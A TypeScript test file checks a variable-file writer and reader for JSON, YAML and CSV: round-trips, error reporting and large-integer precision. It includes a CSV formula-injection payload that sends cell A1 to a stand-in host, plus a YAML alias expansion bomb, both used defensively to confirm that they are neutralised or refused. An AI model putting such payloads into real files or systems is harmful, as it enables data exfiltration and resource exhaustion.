import fc from 'fast-check'
import { expect, test } from 'vitest'
import { readCsv } from '../../lib/csv.ts'
import { type FileFormat, fileText, readCsvFile, readYaml } from './formats.ts'
import type { Variable, VariableFile, VariableValue } from './schema.ts'

const readers: Record<FileFormat, (text: string) => unknown> = {
  json: JSON.parse,
  yaml: readYaml,
  csv: readCsvFile,
}
const formats = Object.keys(readers) as FileFormat[]

const text = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.constantFrom(
    'yes',
    '1',
    ' x ',
    '- a',
    '#',
    'a: b',
    '"',
    "'",
    '\r\n',
    '~',
    '2024-01-01',
    '=1+1',
    "'=1+1",
    "''@x",
    "'it",
    '-1',
    '\t=1',
    '\u2028',
  ),
)
const number = fc.double({ noNaN: true, noDefaultInfinity: true }).map((one) => (one === 0 ? 0 : one))
const grid = fc.array(
  fc.tuple(text, text).map(([a, b]) => [a, b]),
  { maxLength: 3 },
)
const typed = fc.oneof(
  fc.tuple(fc.constant('TEXT' as const), text, text),
  fc.tuple(fc.constant('NUMBER' as const), number, number),
  fc.tuple(fc.constant('GRID' as const), grid, grid),
) as fc.Arbitrary<[Variable['type'], VariableValue, VariableValue]>

const variable = fc
  .record({
    typed,
    name: fc.stringMatching(/^[A-Za-z_][\w-]{0,9}$/),
    behaviour: fc.constantFrom('SHARED', 'COPIED') as fc.Arbitrary<'SHARED' | 'COPIED'>,
    description: text,
    supportsDoubleResolution: fc.boolean(),
    environments: fc.uniqueArray(fc.string({ unit: 'grapheme', minLength: 1 }), { maxLength: 3 }),
  })
  .map(({ typed: [type, value, own], environments, ...rest }) => ({
    id: 'the-id',
    type,
    value,
    ...rest,
    ...(type === 'GRID' && { columns: ['a', 'b, "c"'] }),
    overrides: environments.map((environmentName) => ({ environmentName, value: own })),
  }))
const variables = fc.uniqueArray(variable, { selector: ({ name }) => name })

test.each(formats)('what is written as %s is read back the same, but for the id', async (format) => {
  await fc.assert(
    fc.asyncProperty(variables, async (given) => {
      const text = await Array.fromAsync(fileText(format, given.length === 0 ? [] : [given]))
      const read = readers[format](text.join('')) as VariableFile
      expect(read.variables).toEqual(given.map(({ id: _, ...rest }) => rest))
    }),
    { numRuns: 200 },
  )
})

test('a file of several portions is one', async () => {
  const overrides: [] = []
  const one = { id: 'i', type: 'NUMBER', behaviour: 'COPIED', description: '', value: 1 } as const
  const many = Array.from({ length: 1_000 }, (_, i) => ({
    ...one,
    name: `v${i}`,
    supportsDoubleResolution: false,
    overrides,
  }))
  const pieces = await Array.fromAsync(fileText('json', [many.slice(0, 1), many.slice(1)]))
  expect(JSON.parse(pieces.join('')).variables.map(({ name }: { name: string }) => name)).toEqual(
    many.map(({ name }) => name),
  )
})

const faultsOf = (read: () => unknown): readonly string[] => {
  try {
    read()
  } catch (error) {
    return (error as { violations: string[] }).violations
  }
  return []
}

test('every violation of a CSV file is reported with its line', () => {
  const csv = [
    'name,environmentName,type,behaviour,value,columns,supportsDoubleResolution',
    'n,,NUMBER,COPIED,five,,maybe',
    '"g",,GRID,COPIED,"[[""a""',
    'later,dev,,,1,,',
    'n,,NUMBER,COPIED,5,,',
    'n,dev,,,0x1F,,',
  ].join('\n')
  expect(faultsOf(() => readCsvFile(csv))).toEqual(['line 3: The CSV has a stray or unclosed quote'])
  const closed = csv.replace('"[[""a""', '"[[""a"""')
  expect(faultsOf(() => readCsvFile(closed))).toEqual([
    'line 2: supportsDoubleResolution must be true or false',
    'line 2: the value "five" is not a number',
    'line 3: value must be JSON',
    'line 4: the line of the variable later must come before its overrides',
    'line 5: the variable n already has a line',
    'line 6: the value "0x1F" is not a number',
  ])
})

test('a CSV file without its columns gets an error that names them', () => {
  expect(faultsOf(() => readCsvFile('name,colour\na,b'))).toEqual([
    'line 1: there is no column "colour"',
    'line 1: the column type is missing',
    'line 1: the column behaviour is missing',
    'line 1: the column value is missing',
  ])
})

test('YAML errors name their position, and aliases cannot grow without end', () => {
  expect(faultsOf(() => readYaml('variables: [\n- a'))[0]).toContain('line 2')
  const level = (i: number) =>
    `l${i}: &l${i} [${Array(10)
      .fill(`*l${i - 1}`)
      .join(',')}]`
  const bomb = ['l0: &l0 [x]', ...Array.from({ length: 8 }, (_, i) => level(i + 1))].join('\n')
  expect(faultsOf(() => readYaml(bomb))).toHaveLength(1)
})

test('whole numbers that a number cannot keep are refused in CSV and YAML', () => {
  const csv = 'name,type,behaviour,value\nn,NUMBER,COPIED,9007199254740993\nt,TEXT,COPIED,9007199254740993\n'
  expect(faultsOf(() => readCsvFile(csv))).toEqual([
    'line 2: the value 9007199254740993 would be read as 9007199254740992',
  ])
  expect(faultsOf(() => readYaml('a: [9007199254740993, "9007199254740993", 9007199254740992, 7]'))).toEqual([
    'body: 9007199254740993 would be read as 9007199254740992; quote it to make it text',
  ])
  expect(readYaml('a: [9007199254740992, 7, 1.5]')).toEqual({ a: [9007199254740992, 7, 1.5] })
})

test('no text of a CSV file is a formula to a spreadsheet, and numbers stay numbers', async () => {
  const common = { id: 'i', behaviour: 'COPIED', supportsDoubleResolution: false } as const
  const call = '=HYPERLINK("http://far.test/?"&A1)'
  const given = [
    { ...common, name: 'a', type: 'TEXT', value: call, description: '@SUM(1)', overrides: [] },
    { ...common, name: 'b', type: 'NUMBER', value: -5, description: '', overrides: [] },
    {
      ...common,
      name: 'c',
      type: 'TEXT',
      value: '',
      description: '',
      overrides: [{ environmentName: '+1', value: '-1' }],
    },
  ] as const
  const file = (await Array.fromAsync(fileText('csv', [given]))).join('')
  const cells = readCsv(file).flatMap((record) => record.cells)
  expect(cells.filter((cell) => /^[=+@\t\r-]/.test(cell))).toEqual(['-5'])
  expect(cells).toContain(`'${call}`)
  expect((readCsvFile(file) as { variables: { value: unknown }[] }).variables[0]!.value).toBe(call)
})
